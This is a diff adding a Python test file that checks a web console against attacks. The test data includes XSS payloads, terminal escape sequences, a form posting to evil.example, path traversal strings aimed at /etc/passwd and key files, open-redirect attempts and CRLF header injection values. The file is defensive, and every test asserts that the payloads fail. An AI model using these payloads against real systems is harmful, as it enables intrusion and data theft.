@@ -1,0 +1,167 @@
+"""Attacks by what a page shows, and on the pages: targets that attack the browser, paths, redirects."""
+
+import socket
+from typing import Any
+
+from twisted.trial.unittest import SkipTest
+
+from streamrelay.tokens import new_id
+from tests.live.attack import AttackTest, Reply, read_reply
+from tests.live.chain import WAIT, until
+from tests.live.secrets import SUITE
+from tests.live.test_attacks_origin import CHROMIUM, FLAGS
+
+ANONYMOUS = '\n[anonymous]\ngrants = [{ host = "*", target = "*" }]\n'
+HOSTILE = (
+    "<script>document.title = 'owned'</script>",
+    "<img src=x onerror=\"document.title = 'owned'\">",
+    "<svg onload=\"document.title = 'owned'\"><style>body { display: none }</style>",
+    '<a href="javascript:document.title=1">click</a><iframe srcdoc="<script>parent.document.title=1</script>">',
+    "</pre></main></body><form action=https://evil.example><input name=key></form>",
+    "&lt;b&gt; {{7*7}} ${7*7} %3Cscript%3E",
+    "\x1b]0;owned\x07\x1b]2;owned\x1b\\\x1b]52;c;b3duZWQ=\x07\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
+    '\x1b[2J\x1b[H\x1b[31mred\x1b[0m\x1b[6n\x1b[c\x1bP$q"p\x1b\\ \x9b31m',
+)
+END = "the last line"
+LOG = '[targets.hostile]\nkind = "log"\npath = "FOLDER/hostile.txt"\n'
+
+
+class Page(AttackTest):
+    """What a target sends is text on the console page, whatever it looks like."""
+
+    watched = False  # a browser takes both cores
+
+    def test_hostile_log(self) -> None:
+        """Scripts, tags and terminal escapes in a log are shown as text: nothing runs, loads, or changes the page."""
+        if CHROMIUM is None:
+            raise SkipTest("needs chromium")
+        try:
+            from playwright.sync_api import sync_playwright
+        except ImportError as error:
+            raise SkipTest("needs the package playwright") from error
+        common = self.common
+        (common.folder / "hostile.txt").write_bytes("\n".join((*HOSTILE, END, "")).encode("latin-1"))
+        before = common.agent.log.count("targets read again")
+        common.write_agent(LOG)
+        common.agent.wait_for("targets read again", count=before + 1)
+        keys = common.keys.read_bytes()
+        self.addCleanup(common.keys.write_bytes, keys)
+        common.keys.write_bytes(keys + ANONYMOUS.encode())
+        with sync_playwright() as playwright:
+            browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
+            try:
+                self.look(browser.new_page())
+            finally:
+                browser.close()
+
+    def look(self, page: Any) -> None:
+        asked: list[str] = []
+        dialogs: list[str] = []
+        complaints: list[str] = []
+        page.on("request", lambda request: asked.append(request.url))
+        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+        page.on("pageerror", lambda error: complaints.append(str(error)))
+        page.on("console", lambda message: complaints.append(message.text))
+        home = f"http://127.0.0.1:{self.common.platform_port}"
+        page.goto(home)
+        title = page.title()
+        page.get_by_role("button", name="hostile").click()
+        until(lambda: END in (page.text_content("#output") or ""), what="the log on the page")
+        shown = page.text_content("#output")
+        for line in HOSTILE[:6]:
+            self.assertIn(line, shown)
+        self.assertEqual(page.locator("#output *").count(), 0, "elements in the output")
+        self.assertEqual((page.title(), page.url.rstrip("/")), (title, home))
+        self.assertEqual((dialogs, complaints), ([], []))
+        self.assertEqual([url for url in asked if not url.startswith(home)], [])
+        self.assertNotIn("\x1b", shown)
+
+
+class Paths(AttackTest):
+    """The pages are a fixed list of files; nothing else is found by any path, and nothing leads elsewhere."""
+
+    def ask_raw(self, target: str, host: str = "127.0.0.1", *more: str) -> Reply:
+        with socket.create_connection(("127.0.0.1", self.common.platform_port), WAIT) as connection:
+            lines = (f"GET {target} HTTP/1.1", f"Host: {host}", "Connection: close", *more)
+            connection.sendall(("\r\n".join(lines) + "\r\n\r\n").encode("latin-1"))
+            reply = read_reply(connection, WAIT)
+        SUITE.seen("attack's answer", reply.raw)
+        return reply
+
+    def test_traversal(self) -> None:
+        """Steps upward, encoded or not, doubled slashes, other files and odd bytes: 404, and no file of the disk."""
+        for path in (
+            "/../setup.cfg",
+            "/../../../../etc/passwd",
+            "/..%2f..%2f..%2fetc/passwd",
+            "/%2e%2e/%2e%2e/etc/passwd",
+            "/%2e%2e%2fetc%2fpasswd",
+            "/..%5c..%5cetc/passwd",
+            "/..\\..\\etc\\passwd",
+            "/%252e%252e/etc/passwd",
+            "/%c0%ae%c0%ae/etc/passwd",
+            "//etc/passwd",
+            "/console.html",
+            "/console.js/",
+            "/console.js/..",
+            "/console.js%00.html",
+            "/console.js%2f..%2f..%2fapi.py",
+            "/./console.js",
+            "/__init__.py",
+            "/web/console.js",
+            "/v1",
+            "/v1/",
+            "/v1/hosts/",
+            "/v1//hosts",
+            "/v1/../console.js",
+            "/V1/hosts",
+            "/.git/config",
+            "/keys.toml",
+            "/platform.key",
+            "/%00",
+            "/%ff%fe",
+        ):
+            reply = self.ask_raw(path)
+            self.assertEqual((reply.status, reply.ended), (404, "eof"), path)
+            self.assertNotIn(b"root:", reply.raw)
+            self.assertNotIn(b"PRIVATE", reply.raw)
+            self.assertIn(b"application/problem+json", reply.raw)
+
+    def test_redirects(self) -> None:
+        """No path is answered with a redirect, and no answer repeats what it was asked for."""
+        mark = new_id()
+        for path in (
+            f"//{mark}.example/",
+            f"//{mark}.example/%2e%2e",
+            f"/\\{mark}.example/",
+            f"/%2f%2f{mark}.example",
+            f"/?next=https://{mark}.example",
+            f"/v1/streams/https://{mark}.example",
+            f"/console.js?{mark}",
+            f"/%0d%0aLocation:%20https://{mark}.example",
+            f"/{mark}%0d%0aSet-Cookie:%20a=b",
+            f"/<script>{mark}</script>",
+        ):
+            reply = self.ask_raw(path)
+            self.assertIn(reply.status, (200, 404), path)
+            for word in (b"location:", b"set-cookie", mark.encode()):
+                self.assertNotIn(word, reply.raw.lower() if word.islower() else reply.raw, path)
+
+    def test_host_header(self) -> None:
+        """The Host header of an attacker changes nothing in an answer."""
+        for host in ("evil.example", "127.0.0.1@evil.example", "evil.example:80", "x" * 300):
+            reply = self.ask_raw("/", host)
+            self.assertEqual(reply.status, 200)
+            self.assertNotIn(b"evil", reply.raw)
+        for host in ("evil.example", "[::1", "a b"):
+            self.assertEqual(self.ask_raw("/v1/hosts", host).status, 401, host)
+
+    def test_no_other_site(self) -> None:
+        """No answer lets another site read it, frame it, or send a POST by a form."""
+        reply = self.ask_raw("/v1/hosts", "127.0.0.1", "Origin: https://evil.example")
+        self.assertEqual(reply.status, 401)
+        self.assertNotIn(b"access-control", reply.raw.lower())
+        self.assertIn(b"frame-ancestors 'none'", reply.raw)
+        for kind in ("text/plain", "application/x-www-form-urlencoded", "application/json-patch+json"):
+            answer = self.common.ask("POST", "/v1/streams", b"{}", headers={"Content-Type": kind})
+            self.assertEqual(answer.status, 415, kind)
